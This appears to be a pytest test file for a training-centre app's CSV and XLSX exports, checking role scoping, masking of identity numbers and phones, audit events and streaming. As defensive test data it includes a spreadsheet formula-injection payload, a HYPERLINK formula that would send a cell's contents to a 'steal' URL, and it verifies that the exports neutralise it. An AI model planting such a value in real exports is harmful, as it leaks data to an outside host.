"""Downloads of the audit tables (``/oversight/exports/...``): the capacity table at every grouping, a
centre's cohorts and the trainees in the reader's scope, as CSV and XLSX.

Each file is parsed back (``csv``, ``openpyxl``) and compared with the report rows the pages show; CNIC
and phone are masked for overseers only; cells that a spreadsheet would run as formulas are neutralised
in both formats; every download writes exactly one audit event, committed although the request is a GET;
both formats are streamed; and every role gets its scope and no more."""

import io
from datetime import UTC, date, datetime

import pytest
from harness import kept_world
from openpyxl import load_workbook
from pages import csv_rows, export_events
from sqlalchemy import event, true

from auth.permissions import OversightScope
from enrollments.counters import recount
from enrollments.identity import format_phone
from enrollments.models import Trainee
from extensions import db
from oversight import export_files
from oversight.export_files import (
    KeysetSource,
    Table,
    csv_cell,
    exported_cnic,
    exported_phone,
    neutralised,
    xlsx_cell,
)
from oversight.figures import FIGURE_KEYS
from oversight.queries import KNOWN_ACTIONS, after_trainee, capacity_report, report_totals, trainees_for_export
from vocabulary import Area, CohortKind, CohortStatus, EnrollmentStatus, Gender, Mode, Role, Track

E = EnrollmentStatus
EVIL_NAME = '=HYPERLINK("http://x.example/steal?"&A1,"Click")'
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


class Network:
    """Punjab: centre A (Lahore, two cohorts: an open one and a women-only online camp); Sindh: centre B
    (Karachi). Trainees: ``a`` (Lahore, enrolled at A), ``b`` (Karachi, enrolled at B), ``c`` (Karachi,
    applied at A: within Punjab's oversight), ``evil`` (Lahore, named like a formula, enrolled in the camp),
    ``walk_in`` (Karachi, registered by A's staff, no place yet)."""

    def __init__(
        self,
        make_province,
        make_district,
        make_centre,
        make_course,
        make_cohort,
        make_trainee,
        make_enrollment,
        make_user,
    ):
        self.punjab = make_province(code="PB", name="Punjab")
        self.sindh = make_province(code="SD", name="Sindh")
        lahore = make_district(self.punjab, code="LHR", name="Lahore")
        karachi = make_district(self.sindh, code="KHS", name="Karachi South", rural=True)
        self.centre_a = make_centre(lahore, code="PB-LHR-01", name="Lahore Centre")
        self.centre_b = make_centre(karachi, code="SD-KHS-01", name="Karachi Centre")
        web = make_course(code="WEB-101", title="Web Foundations", track=Track.SOFTWARE_DEVELOPMENT)
        ads = make_course(code="MKT-101", title="Marketing Basics", track=Track.DIGITAL_MARKETING)
        self.cohort_a = make_cohort(self.centre_a, web, code="PB-WEB-1", starts_on=date(2031, 1, 10), seats=4)
        self.camp_a = make_cohort(
            self.centre_a,
            ads,
            code="PB-CAMP-1",
            starts_on=date(2031, 3, 1),
            seats=2,
            kind=CohortKind.CAMP,
            women_only=True,
            mode=Mode.ONLINE,
            status=CohortStatus.RUNNING,
        )
        self.cohort_b = make_cohort(self.centre_b, web, code="SD-WEB-1", starts_on=date(2031, 2, 1), seats=10)
        self.draft_a = make_cohort(self.centre_a, web, code="PB-DRAFT-1", status=CohortStatus.DRAFT)
        self.a = make_trainee(lahore, cnic="3520212345671", phone="+923009876543", full_name="Ayesha Punjab")
        self.b = make_trainee(karachi, cnic="4210198765432", phone="+923331112223", full_name="Sana Sindh")
        self.c = make_trainee(karachi, phone="+923214445556", full_name="Hina Karachi", area=Area.RURAL)
        self.evil = make_trainee(lahore, phone="+923451234567", full_name=EVIL_NAME)
        self.walk_in = make_trainee(
            karachi, full_name="Walk In", gender=Gender.MALE, registered_centre_id=self.centre_a.id
        )
        make_enrollment(self.a, self.cohort_a)
        make_enrollment(self.c, self.cohort_a, status=E.WAITLISTED)
        make_enrollment(self.evil, self.camp_a)
        make_enrollment(self.b, self.cohort_b)
        recount(fix=True)  # make_enrollment writes rows directly: give the cohorts their true counters
        db.session.commit()
        self.users = {
            "anonymous": None,
            "trainee": make_user(Role.TRAINEE),
            "staff_a": make_user(Role.STAFF, centres=(self.centre_a,)),
            "staff_b": make_user(Role.STAFF, centres=(self.centre_b,)),
            "overseer": make_user(Role.OVERSEER),
            "punjab_overseer": make_user(Role.OVERSEER, province=self.punjab),
            "admin": make_user(Role.ADMIN),
        }


@kept_world
def net(make_province, make_district, make_centre, make_course, make_cohort, make_trainee, make_enrollment, make_user):
    return Network(
        make_province, make_district, make_centre, make_course, make_cohort, make_trainee, make_enrollment, make_user
    )


@pytest.fixture
def get_as(client, sign_in):
    """``get_as(user, path)``: GET ``path`` signed in as ``user`` (None: anonymous)."""

    def get(user, path: str):
        if user is None:
            with client.session_transaction() as session:
                session.clear()
            return client.get(path)
        return sign_in(user).get(path)

    return get


def xlsx_rows(response) -> list[list]:
    """Every row of every sheet, headings included."""
    workbook = load_workbook(io.BytesIO(response.get_data()), read_only=True)
    try:
        return [
            list(row)
            for sheet in workbook.worksheets
            if sheet.title != export_files.NOTES_SHEET
            for row in sheet.iter_rows(values_only=True)
        ]
    finally:
        workbook.close()


def as_csv(value) -> str:
    """How a figure reads back from a CSV file."""
    if value is None:
        return ""
    return str(round(value, 4) if isinstance(value, float) else value)


def report_figures(row) -> list:
    return [getattr(row, key) for key in FIGURE_KEYS]


# The capacity table ----------------------------------------------------------------------------------


@pytest.mark.parametrize("group_by", ["province", "district", "centre", "track"])
def test_capacity_csv_holds_the_report_rows_and_their_total(net, get_as, group_by):
    response = get_as(net.users["admin"], f"/oversight/exports/capacity.csv?by={group_by}")
    assert response.status_code == 200
    rows = csv_rows(response)
    report = capacity_report(OversightScope(), group_by)
    assert rows[0][:3] == ["Key", group_by.capitalize(), "Cohorts"]
    assert rows[0][-1] == "Flags"
    expected = [[row.key, row.name, *map(as_csv, report_figures(row))] for row in [*report, report_totals(report)]]
    assert [row[:-1] for row in rows[1:]] == expected
    assert rows[-1][0] == "total"
    # Worked out by hand: 4 + 2 + 10 seats in the three reported cohorts (the draft is not counted).
    assert rows[-1][3] == "16"


@pytest.mark.parametrize("group_by", ["province", "district", "centre", "track"])
def test_capacity_xlsx_holds_the_same_rows_with_numbers_as_numbers(net, get_as, group_by):
    response = get_as(net.users["admin"], f"/oversight/exports/capacity.xlsx?by={group_by}")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == XLSX_TYPE
    rows = xlsx_rows(response)
    report = capacity_report(OversightScope(), group_by)
    expected = [
        [row.key, row.name, *(round(v, 4) if isinstance(v, float) else v for v in report_figures(row))]
        for row in [*report, report_totals(report)]
    ]
    assert [row[:-1] for row in rows[1:]] == expected
    assert isinstance(rows[-1][3], int) and rows[-1][3] == 16


def test_capacity_export_flags_rows_as_the_pages_do(net, get_as):
    rows = csv_rows(get_as(net.users["admin"], "/oversight/exports/capacity.csv?by=centre"))
    by_key = {row[0]: row for row in rows[1:]}
    # The camp at A is running with 1 of 2 seats filled: 50% < 60%, under-used. Every trainee is a woman.
    assert by_key["PB-LHR-01"][-1] == "Under-used"
    assert by_key["SD-KHS-01"][-1] == ""


def test_capacity_export_takes_the_audit_pages_filters(net, get_as):
    query = "by=centre&from=2031-01-01&to=2031-12-31&mode=online&camps=1"
    rows = csv_rows(get_as(net.users["admin"], f"/oversight/exports/capacity.csv?{query}"))
    expected = capacity_report(
        OversightScope(),
        "centre",
        starts_from=date(2031, 1, 1),
        starts_to=date(2031, 12, 31),
        mode=Mode.ONLINE,
        camps=True,
    )
    assert [row.key for row in expected] == ["PB-LHR-01"]
    assert [row[0] for row in rows[1:]] == ["PB-LHR-01", "total"]
    assert rows[1][2:4] == ["1", "2"]  # the camp only: one cohort, two seats
    (recorded,) = export_events()
    assert recorded.after["filters"] == {
        "by": "centre",
        "from": "2031-01-01",
        "to": "2031-12-31",
        "mode": "online",
        "camps": True,
    }


def test_women_only_narrows_to_women_only_cohorts(net, get_as):
    rows = csv_rows(get_as(net.users["admin"], "/oversight/exports/capacity.csv?by=centre&women_only=1"))
    assert [row[0] for row in rows[1:]] == ["PB-LHR-01", "total"]
    assert rows[1][3] == "2"
    (recorded,) = export_events()
    assert recorded.after["filters"] == {"by": "centre", "women_only": True}


def test_capacity_export_of_one_province_and_one_district(net, get_as):
    rows = csv_rows(get_as(net.users["overseer"], "/oversight/exports/capacity.csv?by=centre&province=sd"))
    assert [row[0] for row in rows[1:]] == ["SD-KHS-01", "total"]
    rows = csv_rows(get_as(net.users["overseer"], "/oversight/exports/capacity.csv?by=centre&province=PB&district=LHR"))
    assert [row[0] for row in rows[1:]] == ["PB-LHR-01", "total"]


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("by=cohort", "by"),
        ("from=garbage", "from"),
        ("from=1999-12-31", "from"),
        ("from=2031-02-01&to=2031-01-01", "to"),
        ("mode=teleport", "mode"),
        ("women_only=maybe", "women_only"),
        ("province=XX", "province"),
        ("province=P%C3%9F", "province"),
        ("province=PB&district=NOPE", "district"),
        ("district=LHR", "district"),
    ],
)
def test_a_capacity_filter_that_cannot_be_used_is_refused_by_name(net, get_as, row_counts, query, field):
    before = row_counts()
    response = get_as(net.users["admin"], f"/oversight/exports/capacity.csv?{query}")
    assert response.status_code == 400
    page = response.get_data(as_text=True)
    assert f"The download was not made: {field}" in page
    assert row_counts() == before  # no audit event for a download that was not made


def test_control_characters_in_arguments_are_dropped(net, get_as):
    response = get_as(net.users["admin"], "/oversight/exports/capacity.csv?by=cen%00tre&province=%00PB")
    assert response.status_code == 200
    assert [row[0] for row in csv_rows(response)[1:]] == ["PB-LHR-01", "total"]


def test_unknown_arguments_are_ignored(net, get_as):
    response = get_as(net.users["admin"], "/oversight/exports/capacity.csv?by=province&colour=blue&page=-1")
    assert response.status_code == 200
    assert [row[0] for row in csv_rows(response)[1:]] == ["PB", "SD", "total"]


SCOPED_CAPACITY = {
    "staff_a": ["PB-LHR-01"],
    "staff_b": ["SD-KHS-01"],
    "punjab_overseer": ["PB-LHR-01"],
    "overseer": ["PB-LHR-01", "SD-KHS-01"],
    "admin": ["PB-LHR-01", "SD-KHS-01"],
}


@pytest.mark.parametrize("role", SCOPED_CAPACITY)
def test_each_reader_exports_the_capacity_of_her_scope_only(net, get_as, role):
    rows = csv_rows(get_as(net.users[role], "/oversight/exports/capacity.csv?by=centre"))
    assert [row[0] for row in rows[1:-1]] == SCOPED_CAPACITY[role]


def test_a_provincial_overseer_cannot_export_another_province(net, get_as):
    response = get_as(net.users["punjab_overseer"], "/oversight/exports/capacity.csv?by=centre&province=SD")
    assert response.status_code == 403
    assert "Sindh" in response.get_data(as_text=True)
    assert export_events() == []


def test_the_default_grouping_follows_the_readers_scope(net, get_as):
    assert csv_rows(get_as(net.users["overseer"], "/oversight/exports/capacity.csv"))[0][1] == "Province"
    assert csv_rows(get_as(net.users["punjab_overseer"], "/oversight/exports/capacity.csv"))[0][1] == "District"
    assert csv_rows(get_as(net.users["staff_a"], "/oversight/exports/capacity.csv"))[0][1] == "Centre"


# A centre's cohorts ----------------------------------------------------------------------------------------


def test_cohort_export_lists_the_centres_reported_cohorts_with_their_figures(net, get_as):
    response = get_as(net.users["staff_a"], "/oversight/exports/centres/PB-LHR-01/cohorts.csv")
    rows = csv_rows(response)
    assert rows[0][:10] == [
        "Cohort",
        "Course",
        "Track",
        "Kind",
        "Women only",
        "Mode",
        "Shift",
        "Starts",
        "Ends",
        "Status",
    ]
    # Latest first; the draft is not a reported cohort.
    assert [row[0] for row in rows[1:]] == ["PB-CAMP-1", "PB-WEB-1"]
    camp, web = rows[1], rows[2]
    assert camp[1:10] == [
        "Marketing Basics",
        "Digital marketing",
        "Training camp",
        "yes",
        "Online",
        "Morning",
        "2031-03-01",
        net.camp_a.ends_on.isoformat(),
        "Running",
    ]
    headings = rows[0]
    figures = dict(zip(headings, web, strict=True))
    assert (figures["Seats"], figures["Enrolled now"], figures["Waitlisted"], figures["Applications (places)"]) == (
        "4",
        "1",
        "1",
        "2",
    )
    assert figures["Filled so far (filling)"] == "0.25"
    assert figures["Seats used (running + finished)"] == ""  # still filling: no seats used yet
    camp_figures = dict(zip(headings, camp, strict=True))
    assert camp_figures["Camp fill"] == camp_figures["Women-only fill"] == "0.5"


def test_cohort_export_as_xlsx_and_with_filters(net, get_as):
    response = get_as(net.users["admin"], "/oversight/exports/centres/pb-lhr-01/cohorts.xlsx?mode=on_site")
    rows = xlsx_rows(response)
    assert [row[0] for row in rows[1:]] == ["PB-WEB-1"]
    assert rows[1][7] == datetime(2031, 1, 10)  # a date cell, not text
    (recorded,) = export_events()
    assert recorded.object_type == "centre" and recorded.object_id == net.centre_a.id
    assert recorded.centre_id == net.centre_a.id
    assert recorded.after == {"format": "xlsx", "filters": {"mode": "on_site", "centre": "PB-LHR-01"}, "rows": 1}


@pytest.mark.parametrize(
    ("role", "status"),
    [("staff_a", 200), ("staff_b", 403), ("punjab_overseer", 200), ("overseer", 200), ("admin", 200), ("trainee", 403)],
)
def test_cohort_export_is_for_the_centres_readers(net, get_as, role, status):
    assert get_as(net.users[role], "/oversight/exports/centres/PB-LHR-01/cohorts.csv").status_code == status


def test_cohort_export_of_no_such_centre_is_404(net, get_as):
    for code in ("NO-SUCH-1", "PB%00LHR", "x" * 80):
        assert get_as(net.users["admin"], f"/oversight/exports/centres/{code}/cohorts.csv").status_code == 404


# Trainees --------------------------------------------------------------------------------------------------

TRAINEES_IN_SCOPE = {
    "staff_a": {"a", "c", "evil", "walk_in"},  # applied at A, or registered by A's staff
    "staff_b": {"b"},
    "punjab_overseer": {"a", "c", "evil", "walk_in"},  # Lahore residents, and Karachi residents known to A
    "overseer": {"a", "b", "c", "evil", "walk_in"},
    "admin": {"a", "b", "c", "evil", "walk_in"},
}


@pytest.mark.parametrize("role", TRAINEES_IN_SCOPE)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_each_reader_exports_the_trainees_of_her_scope(net, get_as, role, fmt):
    response = get_as(net.users[role], f"/oversight/exports/trainees.{fmt}")
    rows = csv_rows(response) if fmt == "csv" else xlsx_rows(response)
    ids = [int(row[0]) for row in rows[1:]]
    assert ids == sorted(ids)
    expected = {getattr(net, name).id for name in TRAINEES_IN_SCOPE[role]}
    assert set(ids) == expected and len(ids) == len(expected)


def trainee_row(rows, trainee) -> list:
    return next(row for row in rows[1:] if int(row[0]) == trainee.id)


@pytest.mark.parametrize("role", ["overseer", "punjab_overseer"])
def test_overseers_get_cnic_and_phone_masked_in_both_formats(net, get_as, role):
    for fmt, parse in (("csv", csv_rows), ("xlsx", xlsx_rows)):
        response = get_as(net.users[role], f"/oversight/exports/trainees.{fmt}")
        rows = parse(response)
        assert rows[0][:6] == ["ID", "CNIC", "Full name", "Gender", "Date of birth", "Mobile"]
        row = trainee_row(rows, net.a)
        assert row[1:3] == ["35202-*******-1", "Ayesha Punjab"]
        assert row[5] == "0*** ****543"
        whole = response.get_data()
        for secret in (b"3520212345671", b"1234567", b"9876543", b"3009876543"):
            assert secret not in whole, secret


@pytest.mark.parametrize("role", ["staff_a", "admin"])
def test_staff_and_admins_get_cnic_and_phone_whole(net, get_as, role):
    rows = csv_rows(get_as(net.users[role], "/oversight/exports/trainees.csv"))
    row = trainee_row(rows, net.a)
    assert row[1] == "35202-1234567-1"
    assert row[5] == "0300 9876543"
    assert row[3:5] == ["Female", "2000-01-15"]
    assert row[6:11] == ["Punjab", "Lahore", "Urban", "Intermediate (FA/FSc)", "no"]
    assert "*" not in "".join(cell for row in rows for cell in row)


def test_a_name_that_looks_like_a_formula_is_neutralised_in_both_formats(net, get_as):
    rows = csv_rows(get_as(net.users["admin"], "/oversight/exports/trainees.csv"))
    assert trainee_row(rows, net.evil)[2] == "'" + EVIL_NAME
    response = get_as(net.users["admin"], "/oversight/exports/trainees.xlsx")
    assert trainee_row(xlsx_rows(response), net.evil)[2] == "'" + EVIL_NAME
    workbook = load_workbook(io.BytesIO(response.get_data()))  # not read-only: cell types are kept
    cells = [
        cell for row in workbook.active.iter_rows() for cell in row if cell.value and "HYPERLINK" in str(cell.value)
    ]
    assert [cell.data_type for cell in cells] == ["s"]  # text, never a formula ("f")
    workbook.close()


def test_trainee_export_is_numbers_and_dates_in_xlsx(net, get_as):
    rows = xlsx_rows(get_as(net.users["admin"], "/oversight/exports/trainees.xlsx"))
    row = trainee_row(rows, net.a)
    assert isinstance(row[0], int)
    assert row[4] == datetime(2000, 1, 15)
    assert isinstance(row[11], datetime)


def test_trainees_are_read_page_by_page_without_gaps_or_repeats(net, monkeypatch):
    """The keyset pages of the trainee export cover every row once, in id order, whatever the page size."""
    statement = trainees_for_export(true())
    for size in (1, 2, 3, 100):
        source = KeysetSource(statement, Trainee.id, after_trainee, lambda rows: rows, page_rows=size)
        pages = list(source.pages())
        assert all(len(page) <= size for page in pages)
        ids = [row[0] for page in pages for row in page]
        assert ids == [
            trainee.id for trainee in sorted([net.a, net.b, net.c, net.evil, net.walk_in], key=lambda t: t.id)
        ]
        assert source.count() == 5


def test_a_long_xlsx_export_continues_on_another_sheet(net, get_as, monkeypatch):
    monkeypatch.setattr(export_files, "XLSX_SHEET_ROWS", 2)
    monkeypatch.setattr(export_files, "PAGE_ROWS", 2)
    response = get_as(net.users["admin"], "/oversight/exports/trainees.xlsx")
    workbook = load_workbook(io.BytesIO(response.get_data()), read_only=True)
    assert workbook.sheetnames == ["Trainees", "Trainees (2)", "Trainees (3)"]
    sheets = [list(sheet.iter_rows(values_only=True)) for sheet in workbook.worksheets]
    workbook.close()
    assert [len(rows) for rows in sheets] == [3, 3, 2]  # headings + 2, headings + 2, headings + 1
    assert all(rows[0][0] == "ID" for rows in sheets)
    (recorded,) = export_events()
    assert recorded.after["rows"] == 5


def test_csv_export_read_in_small_pages_is_whole(net, get_as, monkeypatch):
    monkeypatch.setattr(export_files, "PAGE_ROWS", 2)
    rows = csv_rows(get_as(net.users["admin"], "/oversight/exports/trainees.csv"))
    assert len(rows) == 6 and len({row[0] for row in rows[1:]}) == 5


# The audit trail, streaming, headers --------------------------------------------------------------------

EXPORTS = [
    ("/oversight/exports/capacity.{fmt}?by=province", "export.capacity", 3),
    ("/oversight/exports/centres/PB-LHR-01/cohorts.{fmt}", "export.cohorts", 2),
    ("/oversight/exports/trainees.{fmt}", "export.trainees", 5),
]


@pytest.mark.parametrize(("path", "action", "rows"), EXPORTS)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_each_export_writes_exactly_one_audit_event(net, get_as, path, action, rows, fmt):
    admin = net.users["admin"]
    response = get_as(admin, path.format(fmt=fmt))
    response.get_data()
    (recorded,) = export_events()
    assert recorded.action == action and action in KNOWN_ACTIONS  # the audit log's filter offers it
    assert recorded.actor_id == admin.id
    assert recorded.after["format"] == fmt and recorded.after["rows"] == rows
    if action != "export.cohorts":
        assert (recorded.object_type, recorded.object_id, recorded.centre_id) == ("user_account", admin.id, None)


def test_the_trainee_export_event_says_whether_it_was_masked(net, get_as):
    get_as(net.users["overseer"], "/oversight/exports/trainees.csv").get_data()
    get_as(net.users["staff_a"], "/oversight/exports/trainees.csv").get_data()
    assert [event.after["filters"] for event in export_events()] == [{"masked": True}, {}]


@pytest.mark.parametrize(("path", "action", "rows"), EXPORTS)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_are_streamed_with_a_dated_file_name(net, get_as, path, action, rows, fmt):
    response = get_as(net.users["admin"], path.format(fmt=fmt))
    assert response.is_streamed
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment; filename=markaz-")
    assert disposition.endswith(f"-{export_files.local_today().isoformat()}.{fmt}")
    expected_type = "text/csv; charset=utf-8" if fmt == "csv" else XLSX_TYPE
    assert response.headers["Content-Type"] == expected_type
    assert response.headers["Cache-Control"] == "no-store"
    response.close()


def test_file_names(net, get_as):
    today = export_files.local_today().isoformat()
    response = get_as(net.users["admin"], "/oversight/exports/capacity.csv?by=district")
    assert response.headers["Content-Disposition"] == f"attachment; filename=markaz-capacity-district-{today}.csv"
    response = get_as(net.users["admin"], "/oversight/exports/centres/PB-LHR-01/cohorts.xlsx")
    assert response.headers["Content-Disposition"] == f"attachment; filename=markaz-cohorts-PB-LHR-01-{today}.xlsx"


@pytest.mark.backends("sqlite")
def test_on_sqlite_the_event_is_written_in_its_own_transaction_and_the_rows_read_without_the_write_lock(net, sign_in):
    """A GET runs in deferred (read) transactions; the export ends its read transaction, writes its event
    in one ``BEGIN IMMEDIATE`` transaction, and reads every page of rows in deferred ones, even while the
    body streams after the request's teardown."""
    begins: list[str] = []

    def seen(_conn, _cursor, statement, *_args) -> None:
        if statement.startswith("BEGIN"):
            begins.append(statement)

    client = sign_in(net.users["admin"])
    db.session.commit()  # the test's own transaction ends here: only the request's are counted
    event.listen(db.engine, "before_cursor_execute", seen)
    try:
        response = client.get("/oversight/exports/trainees.csv")
        during_request = list(begins)
        response.get_data()
    finally:
        event.remove(db.engine, "before_cursor_execute", seen)
    assert during_request.count("BEGIN IMMEDIATE") == 1
    assert begins.count("BEGIN IMMEDIATE") == 1, begins
    assert len(begins) > len(during_request)  # pages were read while streaming, in plain BEGINs
    assert len(export_events()) == 1


@pytest.mark.parametrize(
    "path",
    [
        "/oversight/exports/capacity.csv",
        "/oversight/exports/capacity.xlsx",
        "/oversight/exports/centres/PB-LHR-01/cohorts.csv",
        "/oversight/exports/trainees.csv",
        "/oversight/exports/trainees.xlsx",
    ],
)
def test_trainees_and_anonymous_readers_get_no_export(net, get_as, path):
    assert get_as(net.users["trainee"], path).status_code == 403
    response = get_as(None, path)
    assert response.status_code == 302 and "/auth/login" in response.headers["Location"]
    assert export_events() == []


def test_an_unknown_format_is_404(net, get_as):
    assert get_as(net.users["admin"], "/oversight/exports/trainees.pdf").status_code == 404


# Cells, without HTTP ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+92 300", "-2+3", "@SUM(A1)", "\tx", "\rx", "\uff1d1+1", '=HYPERLINK("http://x")'],
)
def test_text_that_starts_like_a_formula_gets_a_leading_quote(text):
    assert neutralised(text) == "'" + text
    assert csv_cell(text) == "'" + text
    assert xlsx_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Ayesha", "35202-1234567-1", "0300 1234567", "a=b", "عائشہ", ""])
def test_ordinary_text_is_left_alone(text):
    assert neutralised(text) == text


def test_numbers_dates_and_empties_stay_what_they_are():
    assert csv_cell(-5) == -5 and xlsx_cell(-5) == -5
    assert csv_cell(-0.123456) == -0.1235 and xlsx_cell(2 / 3) == 0.6667
    assert csv_cell(None) == "" and xlsx_cell(None) is None
    assert csv_cell(True) == "yes" and xlsx_cell(False) == "no"
    assert csv_cell(date(2031, 1, 2)) == "2031-01-02" and xlsx_cell(date(2031, 1, 2)) == date(2031, 1, 2)
    moment = datetime(2031, 1, 2, 3, 4, 5, tzinfo=UTC)
    assert csv_cell(moment) == "2031-01-02 03:04:05"
    assert xlsx_cell(moment) == datetime(2031, 1, 2, 3, 4, 5)
    assert xlsx_cell("a\x00b\x07c") == "abc"


@pytest.mark.parametrize("phone", ["+923001234567", "+923331112223", "+923459876543", "+923219999000"])
def test_mobiles_are_formatted_as_phonenumbers_formats_them(phone):
    assert exported_phone(phone, masked=False) == format_phone(phone)


def test_phone_numbers_in_exports():
    assert exported_phone("+923001234567", masked=True) == "0*** ****567"
    assert exported_phone("+924235761234", masked=False) == format_phone("+924235761234")  # a Lahore landline
    assert exported_phone("+442079460958", masked=False) == "0044 20 7946 0958"
    assert exported_phone("+442079460958", masked=True) == "00** ** **** *958"
    assert not exported_phone("+442079460958", masked=False).startswith(tuple("=+-@"))


def test_cnics_in_exports():
    assert exported_cnic("3520212345671", masked=False) == "35202-1234567-1"
    assert exported_cnic("3520212345671", masked=True) == "35202-*******-1"


def test_file_names_keep_to_safe_characters():
    table = Table("capacity", "Capacity", [], export_files.ListSource([]), name_parts=("by track", "a/b"))
    assert table.filename("csv", date(2026, 11, 21)) == "markaz-capacity-by-track-a-b-2026-11-21.csv"


def test_a_row_converted_inline_is_the_row_converted_cell_by_cell():
    row = [7, -2, "=x", "+y", "plain", "", None, True, 0.123456, date(2031, 1, 2), datetime(2031, 1, 2, tzinfo=UTC)]
    assert export_files.csv_row(row) == [csv_cell(value) for value in row]
